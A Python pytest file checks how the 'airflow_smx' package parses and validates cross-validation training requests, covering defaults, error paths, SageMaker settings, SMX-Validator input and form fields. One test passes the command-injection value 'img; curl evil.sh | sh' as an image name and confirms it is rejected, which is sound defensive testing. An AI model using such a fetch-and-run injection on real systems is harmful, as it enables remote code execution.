"""The CV request: every problem reported at once with its path; SMX-Validator input accepted as is."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from airflow_smx.core.request import CVRequest, RequestError, parse_request, request_json_schema

EXAMPLES = Path(__file__).parent.parent / "examples"


def minimal(**overrides) -> dict:
    return {
        "name": "churn",
        "input": {"uri": "s3://b/in/data.csv"},
        "output_uri": "s3://b/out",
        "backend": "local",
        "local": {"command": "train"},
        **overrides,
    }


def problems(conf) -> list[str]:
    with pytest.raises(RequestError) as caught:
        parse_request(conf)
    return caught.value.problems


def test_minimal_request_gets_defaults():
    request = parse_request(minimal())
    assert request.cv.strategy == "kfold" and request.cv.n_splits == 5 and request.cv.random_state == 42
    assert request.input.format == "csv"  # from the extension
    assert request.backend == "local" and request.required_folds == 5
    assert request.channels.train.S3DataType == "ManifestFile"
    assert request.experiment_name == "crossvalidator-churn"


def test_three_mistakes_are_reported_together():
    conf = minimal(cv={"n_splits": 1, "strategy": "stratified_kfold"}, output_uri="gs://elsewhere")
    assert problems(conf) == [
        "cv.n_splits: must be >= 2, got 1",
        "cv.strategy: must be one of 'kfold', 'stratified', 'group' or 'stratified_group', got 'stratified_kfold'",
        "output_uri: must start with one of s3://, file://, got 'gs://elsewhere'",
    ]


def test_missing_unknown_and_typed_fields():
    assert problems({"input": {"uri": "s3://b/k", "lable": "y"}, "extra": 1, "cv": {"holdout": 1.5}}) == [
        "cv.holdout: must be < 1.0, got 1.5",
        "extra: unknown field",
        "input.lable: unknown field",
        "name: required",
        "output_uri: required",
    ]


def test_cross_field_problems_name_their_fields():
    conf = minimal(
        cv={"strategy": "stratified_group", "n_repeats": 2},
        output_uri="s3://b/in/data.csv/out",
        min_successful_folds=9,
        tags={"team": "a"},
        backend="sagemaker",
    )
    assert problems(conf) == [
        "cv.n_repeats: repeats apply to kfold and stratified, not stratified_group, got 2",
    ]
    conf["cv"] = {"strategy": "stratified_group"}
    assert problems(conf) == [
        "input.group: strategy stratified_group needs a group field",
        "input.label: strategy stratified_group needs a label field",
        "min_successful_folds: must be <= the number of folds (5), got 9",
        "output_uri: must not be the input or inside it, got 's3://b/in/data.csv/out'",
        "training.AlgorithmSpecification: the sagemaker backend needs TrainingImage or AlgorithmName, got {}",
        "training.ResourceConfig.InstanceType: the sagemaker backend needs it",
    ]


def test_fields_that_airflow_smx_sets_are_refused_and_hyperparameters_become_strings():
    conf = minimal(training={"TrainingJobName": "x", "InputDataConfig": [], "HyperParameters": {"a": 1}})
    assert problems(conf) == [
        "training.InputDataConfig: is set per fold by airflow-smx; remove it, got []",
        "training.TrainingJobName: is set per fold by airflow-smx; remove it, got 'x'",
    ]
    request = parse_request(minimal(training={"HyperParameters": {"a": 1, "b": True, "c": 0.5, "d": "${num_classes}"}}))
    assert request.training.HyperParameters == {"a": "1", "b": "true", "c": "0.5", "d": "${num_classes}"}


def test_label_field_must_fit_the_format():
    assert problems(minimal(input={"uri": "s3://b/data.jsonl", "label": 3})) == [
        "input.label: JSON Lines records are read by key, not by column index, got 3"
    ]
    assert problems(minimal(input={"uri": "s3://b/data.csv", "group": -1})) == [
        "input.group: a column index must be >= 0, got -1"
    ]
    assert problems(minimal(input={"uri": "s3://b/data.csv", "label": "y"})) == [
        "input.label: a CSV column name needs csv_header: true; or give a 0-based index, got 'y'"
    ]


def test_tags_channels_and_names():
    conf = minimal(
        name="___",
        tags=[{"Key": "aws:x", "Value": "1"}, {"Key": "k", "Value": "v" * 300}],
        channels={"validation": {"ChannelName": "v", "S3DataType": "ManifestFile"}},
    )
    found = problems(conf)
    assert "name: needs at least one letter or digit to make a valid training job name, got '___'" in found
    assert "tags.0.Key: keys starting with aws: are reserved by AWS, got 'aws:x'" in found
    assert any(p.startswith("tags.1.Value: must have at most 256 characters") for p in found)
    assert any(
        p.startswith("channels.validation.S3DataType: a fold's validation records are one object") for p in found
    )


def test_smx_validator_sample_is_accepted_unchanged():
    sample = json.loads((EXAMPLES / "smx_validator_sample.json").read_text())
    request = parse_request(sample)
    assert request.name == "my_project" and request.backend == "sagemaker"
    assert request.input.uri == "s3://bucket/path/input.jsonl" and request.input.label == "class"
    assert request.output_uri == "s3://bucket/output_prefix"
    assert (request.cv.strategy, request.cv.n_splits, request.cv.random_state) == ("kfold", 5, 42)
    assert request.experiment_name == "my_project-crossvalidated"
    assert [(t.Key, t.Value) for t in request.tags] == [("project", "my_project")]
    assert request.training.HyperParameters["num_classes"] == "${num_classes}"
    assert request.training.ResourceConfig["InstanceType"] == "ml.p3.2xlarge"
    assert request.training.EnableManagedSpotTraining is True
    train = request.channels.train
    assert (train.S3DataType, train.InputMode, train.RecordWrapperType) == ("AugmentedManifestFile", "Pipe", "RecordIO")
    assert train.AttributeNames == ["source-ref", "class"]
    assert request.refit is False  # SMX-Validator trained the folds only: so does its input here


def test_a_request_refits_by_default_and_cannot_approve_its_own_model():
    assert parse_request(minimal()).refit is True
    # the approval status is the deployment's ([smx] model_approval_status): a conf asking is refused
    assert problems(minimal(registry={"approval_status": "Approved"})) == ["registry.approval_status: unknown field"]
    assert problems(minimal(registry={"inference_image": "img; curl evil.sh | sh"})) == [
        "registry.inference_image: must match ^[A-Za-z0-9][A-Za-z0-9._/:@-]*$, got 'img; curl evil.sh | sh'"
    ]


def test_smx_validator_snake_case_spellings_and_its_paths_in_errors():
    sample = json.loads((EXAMPLES / "smx_validator_sample.json").read_text())
    training = sample["training"]
    sample["training"] = {
        "hyperparameters_template": training["HyperParameters_template"],
        "algorithm_specification": training["AlgorithmSpecification"],
        "stopping_condition": training["StoppingCondition"],
        "resource_config": training["ResourceConfig"],
    }
    assert parse_request(sample).training.StoppingCondition == {
        "MaxRuntimeInSeconds": 3600,
        "MaxWaitTimeInSeconds": 7200,
    }
    sample["crossvalidation"] = {"n_splits": 1, "random_state": -3, "shuffle": False}
    sample["job_config"]["output_prefix"] = "bucket/out"
    assert problems(sample) == [
        "crossvalidation.n_splits: must be >= 2, got 1",
        "crossvalidation.random_state: must be >= 0, got -3",
        "crossvalidation.shuffle: unknown field",
        "job_config.output_prefix: must start with one of s3://, file://, got 'bucket/out'",
    ]


def test_json_schema_documents_every_field():
    schema = request_json_schema()
    assert set(schema["required"]) == {"name", "input", "output_uri"}
    defs = schema["$defs"]
    for model in ("InputSpec", "CVSpec"):
        for name, field in defs[model]["properties"].items():
            assert field.get("title") and field.get("description"), f"{model}.{name}"
    assert CVRequest.model_validate(parse_request(minimal()).model_dump()) == parse_request(minimal())


def test_every_form_field_has_a_title_a_description_and_a_valid_default():
    from airflow_smx.core.form import form_fields, request_from_form

    fields = form_fields()
    assert {"name", "input_uri", "output_uri", "cv_n_splits", "training", "channels"} <= set(fields)
    for name, field in fields.items():
        assert field["title"] and field["description"] and field["section"], name
    request = parse_request(request_from_form({k: f["default"] for k, f in fields.items()}))
    assert request.cv.n_splits == fields["cv_n_splits"]["default"]


def test_the_form_can_start_from_a_stored_request_and_gives_it_back():
    from airflow_smx.core.form import form_fields, request_from_form

    sample = json.loads((EXAMPLES / "smx_validator_sample.json").read_text())
    stored = parse_request(sample)
    fields = form_fields(stored)
    assert fields["name"]["default"] == "my_project" and fields["cv_random_state"]["default"] == 42
    assert fields["training"]["default"]["ResourceConfig"]["InstanceType"] == "ml.p3.2xlarge"
    assert parse_request(request_from_form({k: f["default"] for k, f in fields.items()})) == stored
